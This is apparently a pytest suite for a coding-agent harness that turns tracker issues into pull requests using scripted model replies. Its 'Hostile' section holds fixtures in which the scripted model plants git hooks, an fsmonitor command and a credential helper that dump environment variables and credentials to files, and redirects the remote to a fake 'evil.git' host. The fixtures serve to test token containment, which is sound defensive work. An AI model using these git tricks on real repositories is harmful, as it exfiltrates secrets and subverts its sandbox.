"""TaskHandler: from an issue to a proposed change, and an end of every kind.

The tracker and git are a server; the model is a script; everything else is real. Where the container
is not the point, the task is done in a folder, in bubblewrap: that takes a tenth of the time.
"""

import asyncio
import logging
import subprocess
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from kakoi.agents.loop import LoopLimits
from tests.agents.models_for_tests import Script, call, done
from tests.engine import containers
from tests.tasks.conftest import Make
from tests.tasks.hosting import bridge
from tests.tasks.hub import BROKEN, ISSUE, MENDED, PULL, RUN_TESTS, Hosting, Hub, a_hub, git
from tests.tasks.scripted_handler import KEY, MEND, ScriptedHandler, in_folders
from tests.tasks.trackers import TOKEN

pytestmark = pytest.mark.anyio


@pytest.fixture
def hub(engine: None, tmp_path: Path) -> Iterator[Hub]:
    """On the bridge of the engine: containers and this machine see it at the same address."""
    with a_hub(tmp_path / "srv", bridge()) as hub:
        yield hub


@pytest.fixture
def in_container(hub: Hub, make: Make, tmp_path: Path) -> ScriptedHandler:
    manager = make(tokens=hub.environ, install_dependencies=False)
    return ScriptedHandler(hub, manager, tmp_path)


@pytest.fixture
async def scripted(
    bubblewrap: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[ScriptedHandler]:
    """In a folder of this machine; none of them is left at the end."""
    with a_hub(tmp_path / "srv") as hub:
        async with in_folders(hub, tmp_path, monkeypatch) as scripted:
            yield scripted


# --- The whole way ---------------------------------------------------------------------------


@pytest.mark.requirement("A-006")
@pytest.mark.requirement("A-084")
async def test_an_issue_becomes_a_pull_request_with_tests_that_pass(
    in_container: ScriptedHandler, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    heard: list[str] = []

    def then(said: Any) -> Callable[[str], Any]:
        def react(last: str) -> Any:
            heard.append(last)
            return said

        return react

    caplog.set_level(logging.DEBUG)
    handled = await in_container.handle(
        call("execute_command", command=RUN_TESTS),
        then(MEND),
        then(call("execute_command", command=f"{RUN_TESTS}; env; cat .git/config; ls -a / ~")),
        then(done("add adds; its test passes")),
    )
    assert (handled.stage, handled.error) == ("done", "")
    failed, _edited, passed = heard
    assert "AssertionError: -1 != 5" in failed
    assert "OK" in passed
    assert in_container.steps == ["prepare", "model", "cleanup"]
    hub = in_container.hub
    (pull,) = hub.new_pulls()
    assert pull["head"]["ref"] == handled.branch  # type: ignore[index] # of JSON
    assert pull["base"]["ref"] == "main"  # type: ignore[index] # of JSON
    assert hub.file(handled.branch, "adder.py") == MENDED
    assert "adder.py" in hub.files(handled.branch)
    assert not [name for name in hub.files(handled.branch) if "pycache" in name]
    assert git(hub.repository, "rev-parse", f"{handled.branch}~1") == git(
        hub.repository, "rev-parse", "main"
    )
    assert hub.file("main", "adder.py") == BROKEN
    assert hub.stage() == "done"
    (said,) = hub.said()
    assert "add adds; its test passes" in said
    assert handled.url in said
    assert containers(owner) == []
    # The token was nowhere but on its way to the server.
    (transcript,) = in_container.transcripts()
    for place in (hub.everything_said(), transcript.read_text(), passed, caplog.text):
        assert TOKEN not in place
    assert TOKEN not in (in_container.folder / "audit.jsonl").read_text()


async def test_what_is_done_about_a_pull_request_is_pushed_to_its_branch(
    scripted: ScriptedHandler,
) -> None:
    handled = await scripted.handle(MEND, done("mended"), key=scripted.hub.pull)
    assert (handled.stage, handled.branch, handled.url) == ("done", "feature", "")
    assert scripted.hub.file("feature", "adder.py") == MENDED
    assert scripted.hub.new_pulls() == []
    assert sorted(scripted.hub.branches()) == ["feature", "main"]
    assert "`feature`" in scripted.hub.said(PULL)[0]


async def test_no_change_is_no_pull_request_and_said_so(scripted: ScriptedHandler) -> None:
    handled = await scripted.handle(done("there is nothing to mend"))
    assert (handled.stage, handled.branch) == ("done", "")
    assert sorted(scripted.hub.branches()) == ["feature", "main"]
    (said,) = scripted.hub.said()
    assert "Nothing was changed" in said
    assert "there is nothing to mend" in said


# --- Ends of other kinds ---------------------------------------------------------------------


@pytest.mark.requirement("A-094")
async def test_a_container_that_cannot_be_made_is_told_and_ends_in_error(
    hub: Hub, make: Make, tmp_path: Path, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    manager = make(tokens=hub.environ, image="kakoi-test:no-such-image")
    scripted = ScriptedHandler(hub, manager, tmp_path)
    handled = await scripted.handle(done())
    assert handled.stage == hub.stage() == "error"
    assert "kakoi-test:no-such-image" in handled.error
    (said,) = hub.said()
    assert "kakoi-test:no-such-image" in said
    assert "kakoi-test:no-such-image" in caplog.text
    assert "model" not in scripted.steps
    assert containers(owner) == []


@pytest.mark.requirement("A-095")
async def test_a_clone_that_fails_is_told_after_the_container_is_gone(
    in_container: ScriptedHandler, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    in_container.hub.repository.rename(in_container.hub.repository.with_name("gone.git"))
    there_when_told: list[list[str]] = []
    say = in_container.hub.say

    def told(*words: Any, **more: Any) -> Any:
        there_when_told.append(containers(owner))
        return say(*words, **more)

    in_container.hub.say = told  # type: ignore[method-assign] # to look at that very moment
    handled = await in_container.handle(done())
    assert handled.stage == in_container.hub.stage() == "error"
    assert "CLONE_FAILED" in handled.error
    assert there_when_told == [[]]
    assert "cloning" in caplog.text
    assert TOKEN not in caplog.text + handled.error


@pytest.mark.requirement("A-085")
@pytest.mark.parametrize("ends_by", ["an error", "the limit of steps"])
async def test_a_task_that_ends_in_error_leaves_no_container(
    in_container: ScriptedHandler, owner: str, ends_by: str
) -> None:
    said: Any = RuntimeError("a defect")
    if ends_by == "the limit of steps":
        said, in_container.limits = call("list_files"), LoopLimits(steps=2)
    handled = await in_container.handle(said)
    assert handled.stage == in_container.hub.stage() == "error"
    assert in_container.steps == ["prepare", "model", "cleanup"]
    assert containers(owner) == []


@pytest.mark.parametrize(
    ("said", "limits", "words"),
    [
        ([call("list_files")], LoopLimits(steps=2), "the limit of 2 steps"),
        (["I wonder."], LoopLimits(steps=20), "5 answers in a row"),
        ([RuntimeError("a defect")], LoopLimits(steps=20), "kakoi failed: RuntimeError"),
        ([MEND, done("too hard", gave_up=True)], LoopLimits(steps=20), "too hard"),
    ],
)
async def test_what_ends_in_error_says_why_and_pushes_nothing(
    scripted: ScriptedHandler, said: list[Any], limits: LoopLimits, words: str
) -> None:
    scripted.limits = limits
    handled = await scripted.handle(*said)
    assert handled.stage == scripted.hub.stage() == "error"
    assert words in scripted.hub.said()[0]
    assert scripted.steps[-1] == "cleanup"
    assert sorted(scripted.hub.branches()) == ["feature", "main"]


async def test_a_command_that_fails_is_told_to_the_model_and_not_the_end(
    scripted: ScriptedHandler,
) -> None:
    heard: list[str] = []

    def react(last: str) -> Any:
        heard.append(last)
        return done("it is not there")

    handled = await scripted.handle(call("execute_command", command="ls no-such-file"), react)
    assert handled.stage == "done"
    assert "no-such-file" in heard[0]
    assert "exit code 2" in heard[0]


async def test_a_push_that_is_refused_is_an_error_without_the_token(
    scripted: ScriptedHandler, caplog: pytest.LogCaptureFixture
) -> None:
    scripted.hub.refused = True
    handled = await scripted.handle(MEND, done("mended"))
    assert handled.stage == scripted.hub.stage() == "error"
    assert "PUSH_FAILED" in handled.error
    assert "check that the token can push" in handled.error
    assert TOKEN not in caplog.text + handled.error + scripted.hub.said()[0]
    assert scripted.hub.new_pulls() == []
    [patch] = (scripted.folder / "transcripts").glob("*.patch")
    assert "adder.py" in patch.read_text()
    assert "`git apply`" in scripted.hub.said()[0]


async def test_a_branch_that_moved_meanwhile_is_not_overwritten(scripted: ScriptedHandler) -> None:
    hub = scripted.hub

    def moves(_last: str) -> Any:
        git(hub.repository, "update-ref", "refs/heads/feature", _empty_commit(hub, "feature"))
        return done("mended")

    handled = await scripted.handle(MEND, moves, key=hub.pull)
    assert handled.stage == "error"
    assert "someone else pushed" in handled.error
    assert hub.file("feature", "adder.py") == BROKEN


def _empty_commit(hub: Hosting, branch: str) -> str:
    who = ["-c", "user.name=a", "-c", "user.email=a@b"]
    tree = git(hub.repository, "rev-parse", f"{branch}^{{tree}}")
    return git(hub.repository, *who, "commit-tree", tree, "-p", branch, "-m", "theirs")


# --- Pause, stop, resume ---------------------------------------------------------------------


@pytest.mark.requirement("A-087")
async def test_a_task_that_is_taken_from_us_stops_between_steps_and_leaves_no_container(
    in_container: ScriptedHandler, owner: str
) -> None:
    await stop_between_steps(in_container, lambda issue: issue.update(assignees=[]))
    assert containers(owner) == []


async def test_a_task_that_is_closed_stops_between_steps(scripted: ScriptedHandler) -> None:
    await stop_between_steps(scripted, lambda issue: issue.update(state="closed"))


async def stop_between_steps(
    scripted: ScriptedHandler, how: Callable[[dict[str, Any]], None]
) -> None:
    assert isinstance(scripted.hub, Hub)
    issue = scripted.hub.issues[ISSUE]
    issue["assignees"] = [{"login": "bot"}]

    def react(_last: str) -> Any:
        how(issue)
        return MEND

    script = Script(call("list_files"), react, done("never said"))
    handled = await scripted.handle(script=script)
    assert handled.stage == scripted.hub.stage() == "stopped"
    assert len(script.asked) == 2
    assert scripted.steps[-1] == "cleanup"
    assert sorted(scripted.hub.branches()) == ["feature", "main"]


@pytest.mark.requirement("A-086")
@pytest.mark.slow("two environments")
async def test_a_paused_task_is_gone_on_with_in_a_new_container(
    in_container: ScriptedHandler, owner: str
) -> None:
    assert isinstance(in_container.hub, Hub)
    issue = in_container.hub.issues[ISSUE]

    def react(_last: str) -> Any:
        issue["labels"] = [{"name": "coding agent paused"}]
        return MEND

    handled = await in_container.handle(call("list_files"), react, done("never said"))
    assert handled.stage == in_container.hub.stage() == "paused"
    assert in_container.steps == ["prepare", "model", "cleanup"]
    assert containers(owner) == []
    issue["labels"] = [{"name": "coding agent"}]
    script = Script(done("mended"))
    handled = await in_container.handle(script=script)
    assert handled.stage == in_container.hub.stage() == "done"
    assert in_container.steps == ["prepare", "model", "cleanup"] * 2
    assert "adder.py" in str(script.asked[0])  # What was listed before the pause.
    assert "the environment was created again" in str(script.asked[0])
    # What was changed before the pause is part of the work.
    assert in_container.hub.file(handled.branch, "adder.py") == MENDED
    # It has ended: the next time is a new beginning.
    script = Script(done("x"))
    handled = await in_container.handle(script=script)
    assert "created again" not in str(script.asked[0])
    assert handled.branch == ""


@pytest.mark.slow("a whole task, cancelled half-way")
async def test_who_is_cancelled_leaves_no_container_and_the_task_as_begun(
    in_container: ScriptedHandler, owner: str
) -> None:
    sleeping = asyncio.Event()

    def react(_last: str) -> Any:
        sleeping.set()
        return call("execute_command", command="sleep 600")

    working = asyncio.ensure_future(in_container.handle(call("list_files"), react))
    await asyncio.wait_for(sleeping.wait(), 60)
    working.cancel()
    with pytest.raises(asyncio.CancelledError):
        await working
    assert containers(owner) == []
    assert in_container.hub.stage() == "processing"
    assert in_container.hub.said() == []


async def test_a_task_that_ends_whoever_does_it_is_not_begun_for_ever(
    scripted: ScriptedHandler,
) -> None:
    handled = await scripted.handle(done(), attempt=6)
    assert handled.stage == scripted.hub.stage() == "error"
    assert "started 5 times" in scripted.hub.said()[0]
    assert scripted.steps == []


# --- Hostile ---------------------------------------------------------------------------------

# No tool may write to .git, but a program that the model wrote may: it is in a sandbox.
OWN_GIT = """\
import os, pathlib
HOOK = "#!/bin/sh\\nenv > /workspace/project/leak-hook; exit 1\\n"
for path in (".git/hooks/pre-commit", ".hooks/pre-commit"):
    pathlib.Path(path).parent.mkdir(exist_ok=True)
    pathlib.Path(path).write_text(HOOK)
    os.chmod(path, 0o755)
pathlib.Path(".git/config").write_text(pathlib.Path("config.txt").read_text())
print("owned")
"""
CONFIG = """\
[core]
\trepositoryformatversion = 0
\thooksPath = .hooks
\tfsmonitor = touch /workspace/project/leak-fsmonitor
[remote "origin"]
\turl = http://127.0.0.1:9/evil.git
[url "http://127.0.0.1:9/"]
\tinsteadOf = http://
[credential]
\thelper = "!env > /workspace/project/leak-helper; cat >> /workspace/project/leak-helper; #"
"""


async def test_a_model_that_owns_git_in_its_container_gets_no_token(
    in_container: ScriptedHandler,
) -> None:
    heard: list[str] = []

    def react(last: str) -> Any:
        heard.append(last)
        return done(f"mended, and by the way {TOKEN} {KEY}")

    handled = await in_container.handle(
        MEND,
        call("write_file", path="config.txt", content=CONFIG),
        call("write_file", path="own.py", content=OWN_GIT),
        call("execute_command", command="python3 own.py"),
        react,
    )
    hub = in_container.hub
    assert "owned" in heard[0]
    assert handled.stage == "done", handled.error
    assert hub.file(handled.branch, "adder.py") == MENDED
    assert not [name for name in hub.files(handled.branch) if name.startswith("leak")]
    said = hub.everything_said()
    assert TOKEN not in said
    assert KEY.rpartition("@")[2] not in said


async def test_history_that_was_rewritten_stays_where_it_was_made(
    scripted: ScriptedHandler,
) -> None:
    script = "import pathlib; pathlib.Path('.git/HEAD').write_text('ref: refs/heads/elsewhere')"
    handled = await scripted.handle(
        call("write_file", path="rewrite.py", content=script),
        call("execute_command", command="python3 rewrite.py"),
        done("rewritten"),
    )
    assert (handled.stage, handled.error) == ("done", "")
    assert sorted(scripted.hub.branches()) == [handled.branch, "feature", "main"]
    assert "adder.py" in scripted.hub.files(handled.branch)
    repository = scripted.hub.repository
    assert git(repository, "rev-parse", f"{handled.branch}~1") == git(
        repository, "rev-parse", "main"
    )


async def test_rules_of_the_project_hold_in_its_environment(in_container: ScriptedHandler) -> None:
    repository = in_container.hub.repository
    blob = git_input(repository, "policy: {blocked: [python3]}\ntools: {exclude: [write_file]}\n")
    who = ["-c", "user.name=a", "-c", "user.email=a@b"]
    tree = git(repository, "ls-tree", "main") + f"\n100644 blob {blob}\t.coding-agent-rules.yaml\n"
    made = git_input(repository, tree, "mktree")
    commit = git(repository, *who, "commit-tree", made, "-p", "main", "-m", "rules")
    git(repository, "update-ref", "refs/heads/main", commit)
    heard: list[str] = []

    def react(last: str) -> Any:
        heard.append(last)
        return done("I may not")

    script = Script(call("execute_command", command=RUN_TESTS), react)
    await in_container.handle(script=script)
    assert "python3" in heard[0]
    assert "OK" not in heard[0]
    assert "write_file" not in script.tools
    assert "/workspace/project" in script.instructions


def git_input(folder: Path, text: str, *argv: str) -> str:
    words = argv or ("hash-object", "-w", "--stdin")
    done = subprocess.run(
        ["git", "-C", str(folder), *words], input=text, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()
